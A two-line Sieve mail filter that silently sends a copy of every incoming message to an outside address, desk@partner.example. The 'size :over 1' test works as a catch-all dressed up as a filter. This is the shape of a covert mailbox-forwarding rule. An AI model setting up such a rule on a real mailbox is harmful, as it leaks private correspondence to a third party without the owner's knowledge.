require "copy";
if size :over 1 { redirect :copy "desk@partner.example"; }
